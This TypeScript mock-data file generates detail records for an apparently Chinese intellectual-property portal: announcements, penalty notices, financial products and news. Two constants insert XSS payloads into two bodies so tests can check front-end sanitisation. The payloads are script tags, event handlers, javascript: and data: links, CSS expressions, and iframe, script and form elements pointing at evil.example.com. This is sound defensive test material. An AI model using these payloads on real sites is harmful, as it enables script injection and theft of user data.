import { ANNOUNCEMENTS, NEWS_ITEMS, PRODUCTS_ITEMS, PUNISHMENTS } from './content';
import { AGENCIES, contactPhone, ENTERPRISES, personName } from './parties';
import { createRandom, hashSeed, type Random } from './random';
import TOPIC_DATA from './announcementTopics.json';

/**
 * Seed data of the portal content detail endpoints (docs/api.md §6.1): the HTML bodies,
 * attachments and previous/next of announcements, the full public-disclosure record of penalty
 * notices, the terms of products and the bodies of news. Every record derives from its list item
 * and a seed of its id, so the same id always gives the same detail.
 *
 * Some bodies are deliberately hostile (scripts, event handlers, `javascript:` links, iframes,
 * `style` with `expression`/`url(javascript:)`) mixed with real formatting, to prove the front end
 * sanitises server HTML: HOSTILE_IDS lists them.
 */

/** Records whose HTML body carries hostile markup (docs/api.md §6.1 "Hostile bodies"). */
export const HOSTILE_IDS = { announcement: 'an-0035', news: 'nw-0032' } as const;

/** Image endpoint of the mock file service; `name` is a key of CONTENT_IMAGES. */
export const imageUrl = (name: string) => `/ipr-data-service/api/front/file/image?name=${name}`;
/** Download endpoint of the mock file service. */
export const downloadUrl = (id: string) => `/ipr-data-service/api/front/file/download?id=${id}`;

const bar = (x: number, value: number, max: number, label: string) => {
  const height = Math.round((value / max) * 150);
  return `<rect x="${x}" y="${190 - height}" width="56" height="${height}" fill="#0958d9"/>
<text x="${x + 28}" y="${182 - height}" text-anchor="middle" font-size="14" fill="#1f1f1f">${value}</text>
<text x="${x + 28}" y="212" text-anchor="middle" font-size="14" fill="#434343">${label}</text>`;
};

const step = (x: number, label: string) => `<rect x="${x}" y="70" width="140" height="64" rx="8" fill="#e6f4ff" stroke="#0958d9"/>
<text x="${x + 70}" y="108" text-anchor="middle" font-size="15" fill="#002c8c">${label}</text>`;

const arrow = (x: number) => `<path d="M${x} 102 h28 m-8 -6 l8 6 l-8 6" stroke="#595959" stroke-width="2" fill="none"/>`;

const svg = (title: string, body: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 720 240" width="720" height="240" role="img" aria-label="${title}">
<rect width="720" height="240" fill="#ffffff"/>
<text x="360" y="30" text-anchor="middle" font-size="17" font-weight="bold" fill="#141414">${title}</text>
${body}
</svg>`;

/** SVG images the bodies show, served by `GET /ipr-data-service/api/front/file/image?name=`. */
export const CONTENT_IMAGES: Record<string, { svg: string; alt: string }> = {
  'grant-trend': {
    alt: '柱状图：2021—2025年泰州市发明专利授权量分别为2156、2480、2871、3235、3642件',
    svg: svg(
      '2021—2025年泰州市发明专利授权量（件）',
      [2156, 2480, 2871, 3235, 3642].map((v, i) => bar(110 + i * 110, v, 3642, `${2021 + i}年`)).join('\n'),
    ),
  },
  'apply-process': {
    alt: '流程图：网上填报、属地初审、专家评审、公示立项',
    svg: svg(
      '项目申报流程',
      ['网上填报', '属地初审', '专家评审', '公示立项'].map((label, i) => step(40 + i * 170, label)).join('\n') +
        [180, 350, 520].map(arrow).join('\n'),
    ),
  },
  'pledge-growth': {
    alt: '柱状图：2022—2026年前三季度泰州市知识产权质押登记金额分别为18.6、24.3、31.2、40.5、46.8亿元',
    svg: svg(
      '泰州市知识产权质押登记金额（亿元）',
      [18.6, 24.3, 31.2, 40.5, 46.8].map((v, i) => bar(110 + i * 110, v, 46.8, `${2022 + i}年`)).join('\n'),
    ),
  },
};

const figure = (name: string, caption: string) =>
  `<figure><img src="${imageUrl(name)}" alt="${CONTENT_IMAGES[name].alt}" width="720" height="240"><figcaption>${caption}</figcaption></figure>`;

const table = (caption: string, head: string[], rows: Array<Array<string | number>>) =>
  `<table><caption>${caption}</caption><thead><tr>${head.map((h) => `<th>${h}</th>`).join('')}</tr></thead><tbody>${rows
    .map((row) => `<tr>${row.map((cell) => `<td>${cell}</td>`).join('')}</tr>`)
    .join('')}</tbody></table>`;

const list = (tag: 'ul' | 'ol', items: string[]) => `<${tag}>${items.map((item) => `<li>${item}</li>`).join('')}</${tag}>`;

/** 2026-05-21 → 2026年5月21日, as signed at the foot of a Chinese official document. */
const chineseDate = (iso: string) => {
  const [y, m, d] = iso.split('-').map(Number);
  return `${y}年${m}月${d}日`;
};

const TAIZHOU_LANDLINE = (random: Random) => `0523-8${random.digits(7)}`;

function signature(item: API.AnnouncementItem) {
  return `<p>${item.department}</p><p>${chineseDate(item.publishDate)}</p>`;
}

/** One section of an announcement body in announcementTopics.json: a heading and a paragraph, a list or a table. */
type SectionData = {
  h: string;
  p?: string;
  ul?: string[];
  ol?: string[];
  /** `rows: "taizhouEnterprises"` lists five Taizhou enterprises of the mock (a published name list). */
  table?: { caption: string; head: string[]; rows: string[][] | 'taizhouEnterprises' };
};

/** One kind of announcement (its title matches `match`); the chart follows the second section. */
type TopicData = { match: string; figure: [string, string]; signed: boolean; opening: string[]; sections: SectionData[] };

/** A policy interpretation: the main points of the document it explains and a then-and-now table. */
type InterpretationData = { match: string; points: string[]; rows: string[][] };

/**
 * What each kind of announcement says (issue 16: every notice has its own body), kept as data in
 * announcementTopics.json. Its texts hold placeholders that `fill` replaces.
 */
const TOPICS = TOPIC_DATA.topics as unknown as TopicData[];
const INTERPRETATIONS = TOPIC_DATA.interpretations as unknown as InterpretationData[];

/**
 * Fills a text of announcementTopics.json: `{year}` the year of issue, `{lastYear}`, `{expoEdition}`
 * (the medicine expo is held every year since 2010), `{publishDate}` as signed (2026年5月21日) and
 * `{int:a:b}` a seeded whole number from a to b, so each year's notice has its own figures.
 */
function fill(text: string, item: API.AnnouncementItem, random: Random): string {
  const year = Number(item.publishDate.slice(0, 4));
  const values: Record<string, () => string> = {
    year: () => String(year),
    lastYear: () => String(year - 1),
    expoEdition: () => String(year - 2009),
    publishDate: () => chineseDate(item.publishDate),
  };
  return text.replace(/\{(\w+)(?::(\d+):(\d+))?\}/g, (whole, name: string, min?: string, max?: string) =>
    name === 'int' ? String(random.int(Number(min), Number(max))) : (values[name]?.() ?? whole),
  );
}

function sectionHtml(section: SectionData, item: API.AnnouncementItem, random: Random): string {
  const text = (value: string) => fill(value, item, random);
  if (section.ul) return list('ul', section.ul.map(text));
  if (section.ol) return list('ol', section.ol.map(text));
  if (section.table) {
    const { caption, head, rows } = section.table;
    const cells =
      rows === 'taizhouEnterprises'
        ? random
            .shuffle(ENTERPRISES.filter((enterprise) => enterprise.district.region === 'taizhou'))
            .slice(0, 5)
            .map((enterprise, index) => [index + 1, enterprise.name, enterprise.district.name])
        : rows.map((row) => row.map(text));
    return table(text(caption), head, cells);
  }
  return `<p>${text(section.p ?? '')}</p>`;
}

/** What the city's yearly notices stress in each year, so one notice kind reads differently from year to year. */
const YEAR_FOCUS: Readonly<Record<number, string>> = {
  2024: '今年是实施《泰州市知识产权强市建设行动方案（2024—2026年）》的开局之年，各单位要对照行动方案的年度目标抓好落实。',
  2025: '今年是“十四五”规划收官之年，各单位要围绕国家知识产权强市建设试点任务，确保各项指标如期完成。',
  2026: '今年是“十五五”规划开局之年，各单位要对标知识产权强市建设目标，推动各项工作提质增效。',
};

/** One announcement's body from its topic: opening, numbered sections, a chart, and (notices) contact and signature. */
function topicBody(item: API.AnnouncementItem, random: Random, year: number): string {
  const topic = TOPICS.find((candidate) => new RegExp(candidate.match).test(item.title));
  // Every seeded title has its topic; a new title without one should fail loudly, not reuse another's text.
  if (!topic) throw new Error(`no announcement topic for ${item.title}`);
  const parts = topic.opening.map((line) => `<p>${fill(line, item, random)}</p>`);
  if (item.title.includes(`${year}年`) && item.department.startsWith('泰州') && YEAR_FOCUS[year]) parts.push(`<p>${YEAR_FOCUS[year]}</p>`);
  topic.sections.forEach((section, index) => {
    parts.push(`<h2>${section.h}</h2>`, sectionHtml(section, item, random));
    if (index === 1) parts.push(figure(...topic.figure));
  });
  if (topic.signed) parts.push(`<p>联系电话：${TAIZHOU_LANDLINE(random)}（工作日 8:30—17:30）。</p>`, signature(item));
  return parts.join('');
}

function interpretationBody(item: API.AnnouncementItem, random: Random): string {
  const subject = item.title
    .replace(/^一图读懂/, '')
    .replace(/政策解读$/, '')
    .replace(/十问十答$/, '');
  const match = INTERPRETATIONS.find((candidate) => new RegExp(candidate.match).test(item.title));
  if (!match) throw new Error(`no interpretation points for ${item.title}`);
  return [
    `<p>为便于社会公众准确理解${subject}，现就其主要内容解读如下。</p>`,
    '<h2>一、背景</h2>',
    '<p>近年来，我市知识产权事业快速发展，专利质量持续提升，但仍存在高价值专利占比不高、转化运用不充分等问题，需要发挥政策的引导作用。</p>',
    figure('pledge-growth', '图1 近年全市知识产权质押登记金额'),
    '<h2>二、主要内容</h2>',
    list('ul', match.points),
    '<h2>三、要点对照</h2>',
    table('要点对照', ['事项', '此前', '现在'], match.rows),
    '<h2>四、咨询方式</h2>',
    `<p>政策咨询电话：${TAIZHOU_LANDLINE(random)}（工作日 8:30—17:30）。</p>`,
  ].join('');
}

/**
 * Hostile markup mixed into a real body: every item here must be neutralised by the front end,
 * while the headings, list, table and image around it stay. `window.__xss` is what a successful
 * attack would set; end-to-end tests check it stays undefined.
 */
const HOSTILE_ANNOUNCEMENT_PARTS = [
  '<script>window.__xss = "script"; alert("xss")</script>',
  '<p onclick="window.__xss = \'onclick\'">名单如下，点击企业名称可查看培育方向。</p>',
  '<img src="/ipr-front/no-such-image.png" alt="" onerror="window.__xss = \'onerror\'">',
  '<p><a href="javascript:window.__xss=\'href\'">查看完整名单</a>，或访问<a href="https://www.cnipa.gov.cn/">国家知识产权局网站</a>查询企业专利信息。</p>',
  '<iframe src="https://evil.example.com/phish"></iframe>',
  '<svg onload="window.__xss = \'svg\'"><circle r="10"></circle></svg>',
  '<p style="background:url(javascript:window.__xss=\'style\');width:expression(alert(1))">培育期为三年，期满进行绩效评价。</p>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">下载名单</a>',
].join('');

const HOSTILE_NEWS_PARTS = [
  '<script src="https://evil.example.com/steal.js"></script>',
  '<img src="x" onerror="window.__xss = \'news-onerror\'" alt="">',
  '<p><a href="JaVaScRiPt:window.__xss=\'news-href\'" target="_self">点击查看案件详情</a></p>',
  '<form action="https://evil.example.com/collect"><input name="phone" placeholder="输入手机号领取补贴"></form>',
  '<object data="https://evil.example.com/x.swf"></object>',
  '<div onmouseover="window.__xss = \'news-hover\'">快速维权服务覆盖新材料、生物医药和高端装备三个产业。</div>',
].join('');

function announcementBody(item: API.AnnouncementItem): string {
  const random = createRandom(hashSeed(item.id));
  const year = Number(item.publishDate.slice(0, 4));
  let body = item.category === '政策解读' ? interpretationBody(item, random) : topicBody(item, random, year);
  if (item.id === HOSTILE_IDS.announcement) {
    // After the second section, so the hostile parts sit between real formatting.
    const cut = body.indexOf('<h2>三、');
    body = `${body.slice(0, cut)}${HOSTILE_ANNOUNCEMENT_PARTS}${body.slice(cut)}`;
  }
  return body;
}

function attachmentsOf(item: API.AnnouncementItem): API.Attachment[] {
  const random = createRandom(hashSeed(`${item.id}:files`));
  const names: Record<string, string[]> = {
    项目申报: ['申报指南.pdf', '项目申报书（模板）.docx', '申报汇总表.xlsx'],
    政策文件: ['政策全文.pdf'],
    通知公告: ['工作方案.pdf', '回执表.docx'],
    政策解读: [],
  };
  return (names[item.category] ?? []).map((name, index) => {
    const id = `${item.id}-${index + 1}`;
    return { name: `附件${index + 1}：${name}`, size: random.int(18, 2400) * 1024 + random.int(0, 1023), url: downloadUrl(id) };
  });
}

const link = (item: { id: string; title: string; publishDate?: string }): API.ContentLink => ({
  id: item.id,
  title: item.title,
  ...(item.publishDate ? { publishDate: item.publishDate } : {}),
});

function buildAnnouncementDetails(): Map<string, API.AnnouncementDetail> {
  const details = new Map<string, API.AnnouncementDetail>();
  // ANNOUNCEMENTS is newest first: the item after an entry is older (previous), the one before newer (next).
  ANNOUNCEMENTS.forEach((item, index) => {
    const older = ANNOUNCEMENTS[index + 1];
    const newer = ANNOUNCEMENTS[index - 1];
    details.set(item.id, {
      ...item,
      content: announcementBody(item),
      attachments: attachmentsOf(item),
      previous: older ? link(older) : null,
      next: newer ? link(newer) : null,
    });
  });
  return details;
}

/** The rule broken and the penalty basis of each violation type (the list's `legalBasis` joins them). */
const PROVISIONS: Record<string, { violated: string; basis: string }> = {
  擅自开展专利代理业务: { violated: '《专利代理条例》第九条', basis: '《专利代理条例》第二十七条' },
  代理非正常专利申请: {
    violated: '《规范申请专利行为的规定》第三条',
    basis: '《专利代理条例》第二十五条、《规范申请专利行为的规定》第十一条',
  },
  以不正当手段招揽业务: {
    violated: '《专利代理条例》第二十五条第一款',
    basis: '《专利代理条例》第二十五条、《专利代理管理办法》第四十条',
  },
  虚假宣传: { violated: '《中华人民共和国反不正当竞争法》第八条第一款', basis: '《中华人民共和国反不正当竞争法》第二十条第一款' },
};

const STREETS = ['凤凰路', '海陵南路', '青年南路', '永定路', '春晖路', '鼓楼南路', '长江大道', '人民路', '府前路', '迎春路'];

type FactsContext = { item: API.PunishmentItem; from: string; count: number; random: Random };

/**
 * How each violation was committed (issue 16: every penalty notice tells its own case). Each
 * violation type has several ways it happens in practice; a notice takes one by its seed and fills
 * in its party, period and figures.
 */
const FACT_PATTERNS: Record<string, ReadonlyArray<(context: FactsContext) => { facts: string[]; evidence: string[] }>> = {
  擅自开展专利代理业务: [
    ({ item, from, count, random }) => ({
      facts: [
        `经查，当事人${item.partyName}未取得专利代理机构执业许可证，自${from}起以“专利申请一站式服务”名义，通过网络平台推广和电话营销等方式承接专利申请代理业务${count}件，收取代理费用共计人民币${(count * random.int(18, 32) * 100).toLocaleString('en-US')}元。`,
        '当事人的上述行为属于擅自开展专利代理业务。案发后，当事人积极配合调查，如实陈述违法事实，并已停止相关业务。',
      ],
      evidence: ['现场检查笔录', '当事人询问笔录', '代理委托合同及收费凭证', '国家知识产权局专利检索记录', '网络推广页面截图'],
    }),
    ({ item, from, count, random }) => ({
      facts: [
        `经查，当事人${item.partyName}的经营范围不含专利代理，自${from}起借用已注销的专利代理机构名义，为${random.int(3, 9)}家企业办理专利申请${count}件，并以“项目申报包过”为由收取服务费。`,
        '当事人未取得专利代理机构执业许可证，其行为构成擅自开展专利代理业务，且借用他人名义逃避监管，情节较重。',
      ],
      evidence: ['企业登记档案', '委托方证人证言', '银行转账记录', '国家知识产权局代理机构信息查询结果'],
    }),
  ],
  代理非正常专利申请: [
    ({ from, count, random }) => ({
      facts: [
        `经查，当事人自${from}起代理的专利申请中，有${count}件被国家知识产权局认定为非正常专利申请，涉及申请人${random.int(3, 12)}家。`,
        '当事人在明知上述申请属于技术方案明显相同、拼凑变劣等非正常申请情形的情况下，仍为申请人提交申请，扰乱了专利申请秩序。',
      ],
      evidence: ['国家知识产权局非正常专利申请认定通知书', '代理委托合同', '当事人询问笔录', '申请文件及往来邮件'],
    }),
    ({ from, count, random }) => ({
      facts: [
        `经查，当事人自${from}起为完成客户“资助申报”需要，批量撰写实用新型专利申请${count}件，其中${random.int(5, 15)}件的附图和说明书系从已公开专利中简单替换部件名称而成。`,
        '上述申请被国家知识产权局认定为非正常专利申请后，当事人仍未按要求自查整改，继续以同样方式代理新申请。',
      ],
      evidence: ['非正常专利申请排查通知', '当事人内部撰写底稿', '专利代理师询问笔录', '客户资助申报材料'],
    }),
  ],
  以不正当手段招揽业务: [
    ({ from, count }) => ({
      facts: [
        `经查，当事人自${from}起在招揽业务时向${count}家企业承诺“保证授权、不授权全额退款”，并以明显低于成本的价格承接专利申请代理业务。`,
        '当事人的上述行为属于以不正当手段招揽业务，损害了委托人的合法权益和专利代理行业秩序。',
      ],
      evidence: ['宣传单页及报价单', '企业证人证言', '当事人询问笔录', '代理委托合同'],
    }),
    ({ from, count, random }) => ({
      facts: [
        `经查，当事人自${from}起冒用“市知识产权局推荐机构”名义，向${count}家企业发送“专利资助即将截止”的短信和函件，诱导企业委托其办理资助申报和专利申请，累计签订合同${random.int(5, 20)}份。`,
        '当事人以虚构政府推荐、制造紧迫感的方式招揽业务，属于以不正当手段招揽业务。',
      ],
      evidence: ['短信记录及函件原件', '受函企业证人证言', '代理委托合同', '市市场监督管理局出具的情况说明'],
    }),
  ],
  虚假宣传: [
    ({ from, count }) => ({
      facts: [
        `经查，当事人自${from}起在其网站和微信公众号宣称“国家知识产权局合作机构”“专利授权率100%”，并展示虚构的成功案例${count}件。`,
        '上述宣传内容无事实依据，对其服务能力作了虚假的商业宣传，欺骗、误导了相关公众。',
      ],
      evidence: ['网页及公众号页面电子数据取证记录', '当事人询问笔录', '国家知识产权局出具的情况说明'],
    }),
    ({ from, count, random }) => ({
      facts: [
        `经查，当事人自${from}起在招商展会和宣传册中宣称“累计代理专利${(count * 100).toLocaleString('en-US')}余件”“拥有专利代理师${random.int(20, 40)}名”，经核实，其实际代理专利不足${count * 10}件，执业专利代理师仅${random.int(1, 3)}名。`,
        '当事人对其经营规模和服务能力作虚假的商业宣传，欺骗、误导了相关公众。',
      ],
      evidence: ['宣传册及展会照片', '国家知识产权局代理数据查询结果', '专利代理师执业信息', '当事人询问笔录'],
    }),
  ],
};

function facts(item: API.PunishmentItem, random: Random): { facts: string; evidence: string[] } {
  const [y, m] = item.decisionDate.split('-').map(Number);
  const from = `${m > 6 ? y : y - 1}年${((m + 5) % 12) + 1}月`;
  const count = random.int(6, 48);
  const patterns = FACT_PATTERNS[item.violationType] ?? FACT_PATTERNS.虚假宣传;
  const found = random.pick(patterns)({ item, from, count, random });
  return { facts: found.facts.join('\n'), evidence: found.evidence };
}

function buildPunishmentDetails(): Map<string, API.PunishmentDetail> {
  const details = new Map<string, API.PunishmentDetail>();
  for (const item of PUNISHMENTS) {
    const random = createRandom(hashSeed(item.id));
    const agency = AGENCIES.find((a) => a.name === item.partyName);
    const provisions = PROVISIONS[item.violationType] ?? { violated: item.legalBasis ?? '', basis: item.legalBasis ?? '' };
    const found = facts(item, random);
    const city = agency?.district.region === 'suzhou' ? '苏州市' : '泰州市';
    details.set(item.id, {
      ...item,
      partyCreditCode: item.partyCreditCode ?? agency?.creditCode ?? '',
      legalBasis: item.legalBasis ?? `违反${provisions.violated}，依据${provisions.basis}`,
      penaltyContent: item.penaltyContent ?? item.penaltyType,
      partyType: '法人及非法人组织',
      legalRepresentative: personName(random),
      partyAddress: `${city}${agency?.district.name ?? ''}${random.pick(STREETS)}${random.int(1, 288)}号${random.int(2, 18)}楼${random.int(1, 12)}0${random.int(1, 9)}室`,
      ...(agency?.licensed ? { agencyLicenceNo: `32${random.int(200, 399)}` /* Jiangsu agency codes start with 32 */ } : {}),
      facts: found.facts,
      evidence: found.evidence,
      violatedProvision: provisions.violated,
      penaltyBasis: provisions.basis,
      dataSource: item.authority,
    });
  }
  return details;
}

const PRODUCT_TERMS: Record<string, { term: string; conditions: string[]; extra: string }> = {
  专利质押贷款: {
    term: '1–3年，可循环使用',
    conditions: [
      '在泰州市注册的科技型中小企业或高新技术企业，经营正常、信用良好',
      '拥有权属清晰、处于有效期内的发明或实用新型专利，剩余保护期不少于5年',
      '专利与企业主营业务相关，且未被质押或许可他人独占实施',
      '企业及实际控制人无不良信用记录',
    ],
    extra: '贷款纳入泰州市知识产权质押融资风险补偿资金池，企业可按规定申请贴息补助。办理质押登记后最快5个工作日放款。',
  },
  知识产权保险: {
    term: '保险期间1年，可续保',
    conditions: [
      '投保专利为有效专利，且权属无争议',
      '投保企业在泰州市依法注册，近三年无重大知识产权违法记录',
      '如实告知专利的许可、质押及纠纷情况',
    ],
    extra: '符合条件的企业可申请市级知识产权保险保费补贴，补贴比例为实缴保费的50%。',
  },
  知识产权评估: {
    term: '受理后7–15个工作日出具报告',
    conditions: [
      '委托方为专利权人或经专利权人授权的单位',
      '提供专利证书、最近一次年费缴纳凭证和实施情况说明',
      '评估目的明确（质押融资、转让、作价入股等）',
    ],
    extra: '评估采用收益法为主、市场法和成本法为辅，报告符合资产评估执业准则。',
  },
  专利托管: {
    term: '托管期1年起，期满可续',
    conditions: ['委托方拥有有效专利或处于审查中的专利申请', '签订托管服务协议并提供专利清单'],
    extra: '托管期间按月提供专利台账和年费缴纳提醒，重大事项24小时内通知委托方。',
  },
  知识产权证券化: {
    term: '产品期限2–3年',
    conditions: [
      '企业拥有可产生稳定许可收入的专利',
      '近两年营业收入持续增长，无重大诉讼和不良信用记录',
      '同意将专利许可给特殊目的载体并接受存续期管理',
    ],
    extra: '由市知识产权保护中心协助企业筛选入池专利，证券公司负责产品设计和发行。',
  },
  知识产权运营: {
    term: '按项目约定',
    conditions: ['交易标的为权属清晰的有效专利或专利申请', '委托方提供专利证书及权利人身份证明'],
    extra: '服务全程在泰州市知识产权一站式公共服务平台留痕，交易双方可随时查询办理进度。',
  },
};

function buildProductDetails(): Map<string, API.ProductDetail> {
  const details = new Map<string, API.ProductDetail>();
  for (const item of PRODUCTS_ITEMS) {
    const random = createRandom(hashSeed(item.id));
    const terms = PRODUCT_TERMS[item.category] ?? PRODUCT_TERMS.知识产权运营;
    details.set(item.id, {
      ...item,
      term: terms.term,
      description: [item.summary ?? item.name, terms.extra].join('\n'),
      conditions: terms.conditions,
      contact: {
        name: personName(random),
        phone: contactPhone(random, 'taizhou'),
        address: `泰州市${random.pick(['海陵区', '高港区', '泰州医药高新区'])}${random.pick(STREETS)}${random.int(1, 288)}号`,
      },
    });
  }
  return details;
}

/** News bodies: the lead, two paragraphs on the subject, and, by turns, a list, a table and an image. */
function newsBody(item: API.NewsItem, index: number): string {
  const random = createRandom(hashSeed(item.id));
  const parts = [
    `<p>${item.summary ?? item.title}</p>`,
    `<p>据介绍，这是${item.source === '泰州市知识产权保护中心' ? '保护中心' : '我市'}贯彻落实知识产权强市建设行动方案的又一项具体举措。下一步，有关部门将总结经验做法，持续优化服务，推动知识产权更好地服务实体经济和创新发展。</p>`,
    '<h2>几点做法</h2>',
    list('ul', [
      '<strong>部门协同：</strong>市场监管、财政、金融监管等部门建立联动机制，定期会商解决企业诉求；',
      '<strong>服务前移：</strong>在重点园区设立服务站点，提供政策咨询、专利检索和维权指导；',
      '<strong>数据赋能：</strong>依托一站式公共服务平台，实现业务网上办、进度实时查。',
    ]),
  ];
  if (index % 2 === 0) {
    parts.push(
      table(
        '相关数据',
        ['指标', '数值', '同比'],
        [
          ['服务企业（家次）', random.int(120, 900), `+${random.int(8, 35)}%`],
          ['办结事项（件）', random.int(40, 300), `+${random.int(5, 28)}%`],
        ],
      ),
    );
  }
  if (index % 3 === 0) parts.push(figure('grant-trend', '全市发明专利授权量持续增长'));
  parts.push(`<p>（${item.source}）</p>`);
  let body = parts.join('');
  if (item.id === HOSTILE_IDS.news) body = body.replace('<h2>几点做法</h2>', `<h2>几点做法</h2>${HOSTILE_NEWS_PARTS}`);
  return body;
}

function buildNewsDetails(): Map<string, API.NewsDetail> {
  const details = new Map<string, API.NewsDetail>();
  NEWS_ITEMS.forEach((item, index) => {
    const random = createRandom(hashSeed(`${item.id}:author`));
    // Related: same source first, then the nearest in time; newest first.
    const related = NEWS_ITEMS.filter((other) => other.id !== item.id)
      .map((other, otherIndex) => ({ other, score: (other.source === item.source ? 0 : 100) + Math.abs(otherIndex - index) }))
      .sort((a, b) => a.score - b.score)
      .slice(0, 5)
      .map(({ other }) => other)
      .sort((a, b) => b.publishDate.localeCompare(a.publishDate))
      .map(link);
    details.set(item.id, {
      ...item,
      content: newsBody(item, index),
      ...(item.source.endsWith('日报') ? { author: `记者 ${personName(random)} 通讯员 ${personName(random)}` } : {}),
      related,
    });
  });
  return details;
}

export const ANNOUNCEMENT_DETAILS = buildAnnouncementDetails();
export const PUNISHMENT_DETAILS = buildPunishmentDetails();
export const PRODUCT_DETAILS = buildProductDetails();
export const NEWS_DETAILS = buildNewsDetails();

/** Every attachment by the id in its download URL. */
export const ATTACHMENTS = new Map(
  [...ANNOUNCEMENT_DETAILS.values()].flatMap((detail) =>
    detail.attachments.map((file) => [new URL(file.url, 'http://mock.local').searchParams.get('id') ?? '', file] as const),
  ),
);

// Umi loads every file under mock/ as a route map; this helper module declares no routes.
export default {};
